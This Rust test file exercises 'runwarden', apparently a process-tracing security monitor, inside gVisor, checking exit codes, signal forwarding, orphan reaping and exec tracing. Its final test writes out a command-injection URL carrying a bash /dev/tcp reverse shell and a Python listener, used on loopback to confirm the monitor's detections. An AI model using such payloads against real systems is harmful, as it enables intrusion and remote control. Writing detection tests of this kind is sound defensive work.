//! Cloud Run's first generation runs containers in gVisor. These run runwarden under Debian's `runsc`
//! (`runsc --network=none do`, where runwarden is PID 1 of the sandbox) and check the core behaviours
//! hold there: tracing works (gVisor implements ptrace itself), exit codes and signals pass through,
//! job-control stops are preserved, orphans are reaped, every exec is seen.
//! Needs root and the `runsc` package (CI installs it).

use std::path::PathBuf;
use std::process::{Command, Output};
use std::time::Duration;

fn runwarden() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_runwarden"))
}

/// Runs `runwarden -- sh -c SCRIPT` as PID 1 of a gVisor sandbox, with extra env, under a timeout.
fn in_gvisor(env: &[(&str, &str)], script: &str) -> Output {
    in_gvisor_exec(env, &["sh", "-c", script])
}

/// The fixture tracee binary, built beside runwarden by `cargo test --workspace` (static, so it runs
/// inside the sandbox as it is).
fn fixture() -> String {
    let p = runwarden().with_file_name("rw-fixture");
    assert!(p.exists(), "{} is missing: run the tests with `cargo test --workspace`", p.display());
    p.display().to_string()
}

/// Runs `runwarden -- PROGRAM ARGS...` (no shell) as PID 1 of a gVisor sandbox.
fn in_gvisor_exec(env: &[(&str, &str)], argv: &[&str]) -> Output {
    let mut cmd = Command::new("timeout");
    cmd.arg("120").arg("runsc").arg("--network=none").arg("do").arg("env");
    for (k, v) in env {
        cmd.arg(format!("{k}={v}"));
    }
    cmd.arg(runwarden()).arg("--").args(argv);
    let out = cmd.output().expect("runsc must be installed (Debian package runsc)");
    assert_ne!(
        out.status.code(),
        Some(124),
        "timed out under gVisor: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn data_of<'a>(lines: &'a [serde_json::Value], message: &str) -> &'a serde_json::Value {
    &lines
        .iter()
        .find(|v| v["message"] == message)
        .unwrap_or_else(|| panic!("no {message:?} line: {lines:?}"))["data"]
}

fn json_lines(out: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&out.stderr).lines().filter_map(|l| serde_json::from_str(l).ok()).collect()
}

#[test]
fn gvisor_exit_codes_pass_through() {
    for code in [0, 7, 255] {
        let out = in_gvisor(&[], &format!("exit {code}"));
        assert_eq!(out.status.code(), Some(code), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let out = in_gvisor(&[], "kill -TERM $$");
    assert_eq!(out.status.code(), Some(128 + 15));
}

#[test]
fn gvisor_traces_every_exec() {
    let out = in_gvisor(&[("RUNWARDEN_LOG", "debug")], "/bin/true; /bin/true; /bin/echo hello");
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "hello\n");
    let lines = json_lines(&out);
    // auto: root with CAP_SYS_ADMIN in the sandbox, but gVisor hands out no seccomp listener (EINVAL).
    let started = lines.iter().find(|v| v["message"] == "workload started").expect("a start line");
    assert_eq!(started["mode"], "ptrace", "{started}");
    assert!(started["why"].as_str().is_some_and(|w| w.contains("refuses a seccomp listener")), "{started}");
    let execs: Vec<&str> = lines
        .iter()
        .filter(|v| v["message"] == "exec")
        .filter_map(|v| v["data"]["binary"]["path"].as_str())
        .collect();
    assert_eq!(execs.len(), 4, "{execs:?}");
    assert_eq!(execs.iter().filter(|p| p.ends_with("/true")).count(), 2, "{execs:?}");
    assert!(execs.iter().any(|p| p.ends_with("/echo")), "{execs:?}");
}

#[test]
fn gvisor_forwards_sigterm_to_the_workload() {
    // Inside the sandbox runwarden is PID 1: the workload signals it, and must get the signal back.
    let out = in_gvisor(&[], "trap 'exit 42' TERM; kill -TERM 1; sleep 5 & wait; exit 1");
    assert_eq!(out.status.code(), Some(42), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn gvisor_preserves_stop_and_continue() {
    let out = in_gvisor(&[], "(sleep 0.3; kill -CONT $$) & kill -STOP $$; echo resumed; wait; exit 4");
    assert_eq!(out.status.code(), Some(4));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "resumed\n");
}

#[test]
fn gvisor_reaps_orphans() {
    // 50 orphans (double-forked sleeps) are reparented to PID 1 (runwarden) and must be reaped.
    let script = r#"
        i=0; while [ $i -lt 50 ]; do (sleep 0.2 &); i=$((i+1)); done
        sleep 1.5
        z=0
        for s in /proc/[0-9]*/stat; do
            case "$(cat "$s" 2>/dev/null)" in *") Z "*) z=$((z+1));; esac
        done
        echo "zombies=$z"
    "#;
    let out = in_gvisor(&[], script);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "zombies=0");
}

#[test]
fn gvisor_terminates_leftovers_after_main_exits() {
    let start = std::time::Instant::now();
    let out = in_gvisor(&[("RUNWARDEN_GRACE", "1s")], "sleep 100 & exit 3");
    assert_eq!(out.status.code(), Some(3));
    assert!(start.elapsed() < Duration::from_secs(30), "leftover not terminated");
}

#[test]
fn gvisor_exec_from_a_thread_is_seen() {
    let fx = fixture();
    let out =
        in_gvisor_exec(&[("RUNWARDEN_LOG", "debug")], &[&fx, "exec-from-thread", "/bin/sh", "-c", "exit 6"]);
    assert_eq!(out.status.code(), Some(6), "{}", String::from_utf8_lossy(&out.stderr));
    let lines = json_lines(&out);
    let sh = lines
        .iter()
        .find(|v| v["message"] == "exec" && v["data"]["args"][0] == "/bin/sh")
        .unwrap_or_else(|| panic!("no exec event for the thread's exec: {lines:?}"));
    assert!(sh["data"]["formerTid"].is_i64(), "formerTid missing: {sh}");
}

#[test]
fn gvisor_posix_spawn_is_traced() {
    let fx = fixture();
    let out = in_gvisor_exec(&[("RUNWARDEN_LOG", "debug")], &[&fx, "spawn", "/bin/sh", "-c", "exit 3"]);
    assert_eq!(out.status.code(), Some(3));
    let lines = json_lines(&out);
    assert!(
        lines.iter().any(|v| v["message"] == "exec" && v["data"]["args"][0] == "/bin/sh"),
        "the spawned program was not seen: {lines:?}"
    );
}

#[test]
fn gvisor_threads_and_exec_storm_are_all_seen() {
    let fx = fixture();
    let out = in_gvisor_exec(&[("RUNWARDEN_LOG", "debug")], &[&fx, "threads", "500"]);
    assert_eq!(out.status.code(), Some(0));
    let lines = json_lines(&out);
    assert!(data_of(&lines, "tracer finished")["threads"].as_u64().unwrap() >= 500);

    let out = in_gvisor_exec(&[("RUNWARDEN_LOG", "debug")], &[&fx, "exec-storm", "300"]);
    assert_eq!(out.status.code(), Some(0));
    let lines = json_lines(&out);
    let traced = data_of(&lines, "tracer finished")["execs"].as_u64().unwrap();
    let processed = data_of(&lines, "pipeline finished")["execs"].as_u64().unwrap();
    assert!(traced > 300, "{traced}");
    assert_eq!(traced, processed, "the pipeline lost exec events");
}

#[test]
fn gvisor_untraced_child_is_noticed() {
    let fx = fixture();
    let out = in_gvisor_exec(&[("RUNWARDEN_SCAN_INTERVAL", "100ms")], &[&fx, "untraced-child", "2"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let child: i64 = String::from_utf8_lossy(&out.stdout)
        .lines()
        .find_map(|l| l.strip_prefix("child ")?.trim().parse().ok())
        .expect("the fixture prints its child's pid");
    let lines = json_lines(&out);
    assert!(
        lines.iter().any(|v| v["severity"] == "WARNING"
            && v["message"].as_str().unwrap_or("").contains("escaped tracing")
            && v["pid"] == child),
        "no warning for untraced pid {child}: {lines:?}"
    );
}

#[test]
fn gvisor_exec_failures_give_127_and_126() {
    let out = in_gvisor_exec(&[], &["/does/not/exist"]);
    assert_eq!(out.status.code(), Some(127));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/does/not/exist"));
    let out = in_gvisor_exec(&[], &["/etc/passwd"]);
    assert_eq!(out.status.code(), Some(126));
}

/// The container scenario under gVisor: the vulnerable sample service, attacked through its command
/// injection with a reverse shell to a listener, all inside one sandbox (its loopback; `runsc do`
/// does not expose sandbox listeners to the host).
#[test]
fn gvisor_vulnerable_app_reverse_shell() {
    let app =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../integration/docker/apps/pyweb/app.py");
    let app = std::fs::canonicalize(app).unwrap().display().to_string();
    // The attacker's listener says when it listens (a file), so the shell never races it.
    let listener =
        "import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);\
s.bind(('127.0.0.1',4444));s.listen(1);open('/tmp/rw-gv-ready','w').close();s.settimeout(40);c,_=s.accept();\
c.sendall(b'id -u\\nexit 0\\n');time.sleep(1);print('session:',c.recv(4096))";
    let script = format!(
        r#"rm -f /tmp/rw-gv-ready
        python3 {app} 18090 & app=$!
        for i in $(seq 150); do curl -s http://127.0.0.1:18090/healthz >/dev/null && break; sleep 0.2; done
        timeout 60 python3 -c "{listener}" & l=$!
        for i in $(seq 150); do [ -e /tmp/rw-gv-ready ] && break; sleep 0.2; done
        curl -s --max-time 30 "http://127.0.0.1:18090/lookup?name=x;bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/127.0.0.1/4444%200%3E%261%27" >/dev/null
        wait $l; kill $app; wait $app; true"#
    );
    let out = in_gvisor(&[], &script);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("session:"), "the reverse shell never connected");
    let lines = json_lines(&out);
    let categories: Vec<&str> = lines.iter().filter_map(|v| v["finding"]["category"].as_str()).collect();
    for want in
        ["Unexpected Child Shell", "Reverse Shell", "Execution: Possible Remote Command Execution Detected"]
    {
        assert!(
            categories.contains(&want),
            "missing {want:?} under gVisor: {categories:?}\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}
